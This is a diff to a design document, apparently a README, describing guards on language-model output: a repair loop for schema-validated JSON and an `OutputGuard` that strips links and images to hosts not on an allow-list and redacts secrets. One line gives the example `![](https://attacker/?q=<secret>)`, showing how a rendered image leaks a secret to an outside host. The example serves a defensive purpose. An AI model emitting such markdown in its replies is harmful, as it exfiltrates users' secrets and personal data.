@@ -8,9 +8,10 @@ Two guards, each a small object with an event sink:
   counted, and after the last repair a typed `OutputRejected` is raised. A refusal is its own
   outcome (`ModelRefused`), never mistaken for a parse error: asking again would not help.
   The schema is sent in strict mode; a provider with constrained decoding then never returns
-  invalid JSON or wrong types, but a reply cut off by the limit, a refusal, and the checks a JSON
-  schema cannot express (pydantic validators, `ge=`/`le=` bounds) still need this loop, and so do
-  providers and servers without constrained decoding.
+  invalid JSON or wrong types, but a reply cut off by the limit, a refusal, and the checks the
+  schema sent does not carry (pydantic's own validators; bounds such as `ge=` that not every
+  server enforces) still need this loop, and so do providers and servers without constrained
+  decoding.
 - `OutputGuard` makes reply text safe to show: markdown links and images to hosts not on the
   allow-list are removed (a browser fetches `![](https://attacker/?q=<secret>)` by itself when
   it renders the reply), secrets and personal data are redacted, and only then is the text cut to
